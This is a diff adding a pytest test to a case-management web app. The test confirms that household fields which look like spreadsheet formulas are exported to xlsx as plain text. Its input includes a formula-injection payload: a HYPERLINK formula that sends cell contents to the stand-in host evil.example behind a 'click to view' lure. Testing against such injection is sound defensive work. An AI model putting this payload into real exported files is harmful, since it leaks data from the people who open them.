@@ -145,3 +145,16 @@ def test_an_unknown_task_or_case_page_is_not_found(signed_in):
     supervisor = signed_in("supervisor1")
     assert supervisor.get("/tasks/999999").status_code == 404
     assert supervisor.get("/cases/999999").status_code == 404
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(signed_in, api, case_at, household):
+    case_id = case_at("declaration")
+    employer = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    name = "+" + household["name"]
+    api.complete(case_id, "declaration", dict(household, employer=employer, name=name, bank_account_name=name))
+    export = signed_in("supervisor1").get("/cases.xlsx")
+    sheet = load_workbook(BytesIO(export.data)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == name)
+    assert (row[2].value, row[2].data_type) == (employer, "s")
+    assert row[1].data_type == "s"
+    assert not [cell for r in sheet.iter_rows() for cell in r if cell.data_type == "f"]
